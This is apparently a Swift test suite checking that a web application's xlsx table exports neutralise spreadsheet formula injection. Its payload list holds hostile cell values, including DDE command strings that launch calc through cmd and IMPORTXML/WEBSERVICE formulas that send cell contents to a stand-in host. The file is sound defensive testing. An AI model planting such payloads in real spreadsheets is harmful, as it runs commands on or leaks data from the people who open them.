// SPDX-License-Identifier: AGPL-3.0-or-later

import Domain
import Foundation
import HTTPTypes
import Store
import TestKit
import Testing

@testable import Web

/// What people type is a text in every table that goes out, opened as a spreadsheet program would open it.
@Suite(.serialized) struct TableInjectionTests {
    /// Names a spreadsheet could take for something else.
    static let payloads = [
        "=HYPERLINK(\"http://x.test\",\"bấm\")", "=1+1", "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-2+3",
        "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝3+3", "＋4+4", "−5+5", "\"=6+6", "'=7+7",
        "\u{200B}=8+8", "=IMPORTXML(CONCAT(\"http://x.test/?\",A1),\"//a\")", "=WEBSERVICE(\"http://x.test\")",
        "=DDE(\"cmd\";\"/C calc\";\"\")", "{=9+9}", "<f>10+1</f>", "]]><f>11+1</f>", "&lt;f&gt;=12</f>",
        "_x003D_13+1", "Sở Đất đai ]]> & \"Rừng\"",
    ]

    @Test func `no cell of a table is a formula, and every text is whole`() async throws {
        let scene = try await PermissionScene()
        let keeper = try await scene.player(.administrator)
        // A page with a form gives the token.
        _ = await keeper.browser.get("/co-quan/moi")
        // Names that differ in signs only would be refused as the same.
        let names = Self.payloads.enumerated().map { "\($1) số \($0)" }
        for (number, name) in names.enumerated() {
            let fields = ["name": name, "shortName": name, "level": "serviceUnit", "request": "x\(number)"]
            #expect(await keeper.browser.send("/co-quan/moi", fields).status == .seeOther, "\(name)")
        }
        var opened = 0
        for role in [Role.administrator, .standingOfficer, .clerk] {
            let player = try await scene.player(role)
            for row in PermissionTable.rows where row.route.hasSuffix("/tai-ve") && row.own.contains(role) {
                guard let path = scene.target(of: row, isOwn: true, for: player) else { continue }
                let reply = await player.browser.get(path + (path.contains("?") ? "&" : "?") + "dang=xlsx")
                guard reply.status == .ok else { continue }
                let table = try await OpenedTable(try await reply.gathered())
                opened += 1
                #expect(table.formulas == 0, "\(role) \(path)")
                if path == "/co-quan/tai-ve" {
                    for name in names {
                        #expect(table.texts.contains { $0 == name || $0 == "'" + name }, "\(name)")
                    }
                }
            }
        }
        #expect(opened > 15, "only \(opened) tables")
    }
}

/// A workbook as a program reads it: how many cells hold formulas, and the texts of all others.
private struct OpenedTable: Decodable {
    let formulas: Int
    let texts: [String]

    init(_ bytes: [UInt8]) async throws {
        let file = FileManager.default.temporaryDirectory.appending(path: "bang-\(UUID().uuidString).xlsx")
        try Data(bytes).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let process = Process()
        let output = Pipe()
        process.executableURL = URL(filePath: "/usr/bin/env")
        process.arguments = ["python3", "-c", Self.reader, file.path]
        process.standardOutput = output
        try process.run()
        let said = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        self = try JSONDecoder().decode(OpenedTable.self, from: said)
    }

    private static let reader = """
        import json, sys, zipfile, xml.etree.ElementTree as tree
        book, names = zipfile.ZipFile(sys.argv[1]), "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            for item in tree.fromstring(book.read("xl/sharedStrings.xml")).iter(names + "si"):
                shared.append("".join(text.text or "" for text in item.iter(names + "t")))
        formulas, texts = 0, []
        for part in book.namelist():
            if not part.startswith("xl/worksheets/sheet"): continue
            for cell in tree.fromstring(book.read(part)).iter(names + "c"):
                formulas += sum(1 for _ in cell.iter(names + "f"))
                if cell.get("t") == "s": texts.append(shared[int(cell.find(names + "v").text)])
                else: texts.append("".join(text.text or "" for text in cell.iter(names + "t")))
        print(json.dumps({"formulas": formulas, "texts": texts}))
        """
}
